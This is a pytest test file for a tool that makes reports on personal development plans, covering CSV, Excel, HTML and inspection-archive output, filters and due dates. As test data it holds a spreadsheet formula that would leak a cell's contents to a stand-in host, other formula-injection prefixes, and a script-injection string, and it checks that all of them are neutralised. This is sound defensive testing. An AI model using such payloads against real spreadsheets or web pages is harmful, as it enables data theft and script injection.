"""The organisation's view: ``pop report`` in every format, and the duties ``pop due`` lists.

Runs on both stores (``store_url``). Dates are fixed with ``--today``; the examples hold their
conversations in March 2026.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date

import pytest
from helpers import VDAB, VTOC, ok, ok_json, pop_process

FORMULA = '=HYPERLINK("http://x/?"&A1,"klik")'


@pytest.fixture
def organisation(store_url):
    """Dries (vdab, Atelier, led by Els), Sofie (vtoc, Zorg), and three without a plan."""
    ok("store", "init")
    dries = ok_json("run", "--answers", str(VDAB))["plan"]["id"]
    sofie = ok_json("run", "--answers", str(VTOC))["plan"]["id"]
    ok("people", "edit", "Dries Verbeeck", "--team", "Atelier", "--leader", "Els Vandamme")
    ok("people", "edit", "Sofie Claes", "--team", "Zorg")
    ok("people", "add", "Nieuwe Collega", "--hired", "2026-03-01", "--team", "Atelier",
       "--leader", "Els Vandamme")
    ok("people", "add", "Pas Begonnen", "--hired", "2026-03-25", "--team", "Atelier")
    ok("people", "add", FORMULA, "--team", "Atelier")
    return {"dries": dries, "sofie": sofie}


def rows_by_name(*args: str) -> dict[str, dict]:
    report = ok_json("report", "--today", "2026-04-01", *args)
    return {row["person"]: row for row in report["rows"]}


def test_one_row_per_person_with_their_plan_and_what_is_due(organisation):
    rows = rows_by_name()
    dries = rows["Dries Verbeeck"]
    assert dries["plan"] == organisation["dries"] and dries["pack"] == "vdab"
    assert dries["state"] == "follow_up.uitvoering" and dries["state_title"].startswith("Na")
    assert dries["last_conversation"] == "2026-03-09"
    assert dries["next_due"]["date"] == "2026-04-20" and dries["days_overdue"] == 0
    assert dries["actions"] == {"not_started": 3, "in_progress": 0, "done": 0, "adjusted": 0}
    assert dries["signed"] is False and dries["team"] == "Atelier"
    assert dries["leader"] == "Els Vandamme"
    assert rows["Nieuwe Collega"]["plan"] is None and rows["Nieuwe Collega"]["signed"] is False
    ok("sign", organisation["dries"], "--role", "employee")
    ok("sign", organisation["dries"], "--role", "manager")
    ok("checkin", organisation["dries"], "--status", "1=bezig", "--status", "2=gedaan",
       "--date", "2026-04-20")
    later = rows_by_name("--today", "2026-05-10")["Dries Verbeeck"]
    assert later["signed"] is True
    assert later["actions"] == {"not_started": 1, "in_progress": 1, "done": 1, "adjusted": 0}
    report = ok_json("report", "--today", "2026-07-10")
    late = {r["person"]: r["days_overdue"] for r in report["rows"]}
    assert late["Dries Verbeeck"] > 0 and report["summary"]["overdue"] >= 1
    assert report["summary"]["people"] == len(report["rows"]) == 7


def test_filters_by_team_leader_pack_and_since(organisation):
    assert set(rows_by_name("--team", "Atelier")) == {
        "Dries Verbeeck", "Nieuwe Collega", "Pas Begonnen", FORMULA}
    assert set(rows_by_name("--leader", "Els Vandamme")) == {"Dries Verbeeck", "Nieuwe Collega"}
    by_pack = rows_by_name("--pack", "vtoc")
    assert by_pack["Sofie Claes"]["plan"] == organisation["sofie"]
    assert by_pack["Dries Verbeeck"]["plan"] is None          # no plan of that pack
    since = rows_by_name("--since", "10-03-2026")
    assert since["Sofie Claes"]["plan"] and since["Dries Verbeeck"]["plan"] is None
    bad = pop_process("report", "--since", "gisteren")
    assert bad.returncode == 2 and "is not a date" in bad.stderr and "Traceback" not in bad.stderr


def test_the_terminal_table_has_the_summary_and_everyone(organisation):
    out = ok("report", "--today", "2026-04-01")
    assert out.startswith("7 people · 5 without a plan")
    for name in ("Dries Verbeeck", "Sofie Claes", "Nieuwe Collega"):
        assert name in out


@pytest.mark.parametrize("name", [FORMULA, "+31 6 123", "-2+3", "@SUM(A1)"])
def test_a_formula_in_a_name_is_text_in_csv_and_xlsx(store_url, tmp_path, name):
    from openpyxl import load_workbook

    ok("store", "init")
    ok("people", "add", "--team", "=Team", "--", name)
    reader = csv.reader(io.StringIO(ok("report", "--format", "csv")))
    heads, row = next(reader), next(reader)
    assert row[heads.index("person")] == "'" + name and row[heads.index("team")] == "'=Team"
    ok("report", "-o", str(tmp_path / "report.xlsx"))
    sheet = load_workbook(tmp_path / "report.xlsx")["People"]
    assert sheet["A2"].value == name and sheet["A2"].data_type == "s"
    assert sheet["C2"].value == "=Team" and sheet["C2"].data_type == "s"


def test_a_cell_starting_with_a_tab_or_return_is_text_too():
    from engine.report_output import to_csv

    row = {"person": "\tTab", "number": "\r9", "team": None, "leader": None, "hired": None,
           "plan": None, "pack": None, "state": None, "state_title": None,
           "last_conversation": None, "next_due": None, "days_overdue": 0,
           "actions": {}, "signed": False}
    cells = next(csv.reader(io.StringIO(to_csv({"rows": [row]}).split("\r\n", 1)[1])))
    assert cells[:2] == ["'\tTab", "'\r9"]


def test_the_workbook_has_a_sheet_per_view_frozen_headers_and_dates(organisation, tmp_path):
    from openpyxl import load_workbook

    target = tmp_path / "report.xlsx"
    ok("report", "--today", "2026-05-01", "-o", str(target))
    assert target.stat().st_mode & 0o077 == 0
    book = load_workbook(target)
    assert book.sheetnames == ["People", "Overdue", "Without a plan", "Summary"]
    people = book["People"]
    assert people.freeze_panes == "A2" and people["A1"].font.bold
    heads = [c.value for c in people[1]]
    rows = {r[0].value: r for r in people.iter_rows(min_row=2)}
    last = rows["Dries Verbeeck"][heads.index("last conversation")].value
    assert last.date() == date(2026, 3, 9)
    assert people.column_dimensions["A"].width >= len("Dries Verbeeck")
    assert {r[0].value for r in book["Without a plan"].iter_rows(min_row=2)} >= {
        "Nieuwe Collega", FORMULA}
    refused = pop_process("report", "-o", str(target))
    assert refused.returncode == 2 and "exists" in refused.stderr


def test_the_html_page_is_self_contained_and_escapes(organisation, tmp_path):
    ok("people", "add", "<script>alert(1)</script>", "--team", "Zorg")
    page = ok("report", "--today", "2026-05-01", "--format", "html")
    assert page.startswith("<!DOCTYPE html>") and page.count("<svg") == 3
    assert "<script>" not in page and "&lt;script&gt;alert(1)" in page
    assert "http://" not in page.replace("http://x/?", "") and "https://" not in page
    assert "@media print" in page and "<link" not in page and "<img" not in page


def test_the_html_report_renders_in_a_real_browser(organisation, tmp_path):
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        pytest.skip("Debian's chromium is not installed (.ci/run installs it)")
    page, picture = tmp_path / "report.html", tmp_path / "report.png"
    ok("report", "--today", "2026-05-01", "-o", str(page))
    subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu",
                    f"--screenshot={picture}", "--window-size=1300,900", page.as_uri()],
                   capture_output=True, timeout=60, check=True)
    raw = picture.read_bytes()
    assert raw.startswith(b"\x89PNG") and len(raw) > 20_000   # charts and a table, not blank


def test_a_pack_without_the_duties_lists_none(store_url):
    ok("store", "init")
    ok_json("run", "--answers", str(VTOC))
    ok("people", "add", "Nieuwe Collega", "--hired", "2026-01-01")
    items = ok_json("due", "--today", "2027-06-01", "--within", "0d")["items"]
    assert not {"first_pop", "yearly_update"} & {i["kind"] for i in items}


def test_due_lists_a_first_pop_and_the_yearly_update(organisation):
    """vdab turns both duties on: a first POP within 30 days of hiring, an update each year."""
    items = ok_json("due", "--pack", "vdab", "--today", "2026-04-05", "--within", "0d")["items"]
    first = [i for i in items if i["kind"] == "first_pop"]
    assert [(i["person"], i["date"]) for i in first] == [("Nieuwe Collega", "2026-03-31")]
    assert first[0]["overdue"] and first[0]["plan"] is None           # Pas Begonnen: not yet
    without = ok_json("due", "--today", "2026-04-05", "--within", "0d")["items"]
    assert "first_pop" in {i["kind"] for i in without}         # Dries's vdab plan turns it on
    yearly = ok_json("due", "--today", "2027-03-20", "--within", "0d")["items"]
    update = [i for i in yearly if i["kind"] == "yearly_update"]
    assert [(i["person"], i["date"]) for i in update] == [("Dries Verbeeck", "2027-03-09")]
    text = ok("due", "--today", "2027-03-20", "--within", "0d")
    assert "yearly update" in text and "Dries Verbeeck" in text
    row = rows_by_name("--today", "2027-03-20")["Dries Verbeeck"]
    assert row["days_overdue"] >= 11


def test_the_inspection_dossier_holds_the_years_plans_and_an_index(organisation, tmp_path):
    import zipfile

    ok("sign", organisation["dries"], "--role", "employee")
    ok("sign", organisation["dries"], "--role", "manager")
    target = tmp_path / "dossier.zip"
    result = pop_process("report", "--inspection", "--year", "2026", "-o", str(target))
    assert result.returncode == 0 and "2 plans of 2026" in result.stderr, result.stderr
    assert target.stat().st_mode & 0o077 == 0
    with zipfile.ZipFile(target) as archive:
        names = archive.namelist()
        index = list(csv.DictReader(io.StringIO(archive.read("index.csv").decode("utf-8-sig"))))
        pages = {n: archive.read(n).decode("utf-8") for n in names if n.endswith(".html")}
    assert sorted(r["plan"] for r in index) == sorted(organisation.values())
    dries = next(r for r in index if r["plan"] == organisation["dries"])
    assert dries["signed"] == "yes" and dries["conversation"] == "2026-03-09"
    assert dries["digest"] == ok_json("verify", organisation["dries"])["digest"]
    assert set(pages) == {r["file"] for r in index} and all(
        not name.startswith(("/", "..")) for name in names)
    assert "Dries Verbeeck" in pages[dries["file"]]
    assert "Ik woon alleen in een studio" not in pages[dries["file"]]   # private
    empty = pop_process("report", "--inspection", "--year", "2025", "-o",
                        str(tmp_path / "empty.zip"))
    assert empty.returncode == 0 and "0 plans of 2025" in empty.stderr
    no_file = pop_process("report", "--inspection")
    assert no_file.returncode == 2 and "give -o FILE" in no_file.stderr


def test_signed_follows_the_content_as_pop_sign_does(organisation):
    """The report reads the digest kept with each version; it must say what a fresh look says:
    a changed action undoes the akkoord, signing again restores it, and a plan written before
    digests were kept (none stored) is read from its content."""
    from engine.store import open_store

    plan = organisation["dries"]
    for role in ("employee", "manager"):
        ok("sign", plan, "--role", role)
    assert rows_by_name()["Dries Verbeeck"]["signed"] is True
    ok("checkin", plan, "--date", "2026-04-20", "--change", "2.wanneer=31-07-2026",
       "--reason", "2=De opleiding schuift op")
    assert ok_json("show", plan)["agreement"]["agreed"] is False
    assert rows_by_name()["Dries Verbeeck"]["signed"] is False
    for role in ("employee", "manager"):
        ok("sign", plan, "--role", role)
    assert rows_by_name()["Dries Verbeeck"]["signed"] is True
    store = open_store()
    with store.transaction():
        store.db.execute("UPDATE plans SET content_digest=NULL")
    store.close()
    assert rows_by_name()["Dries Verbeeck"]["signed"] is True
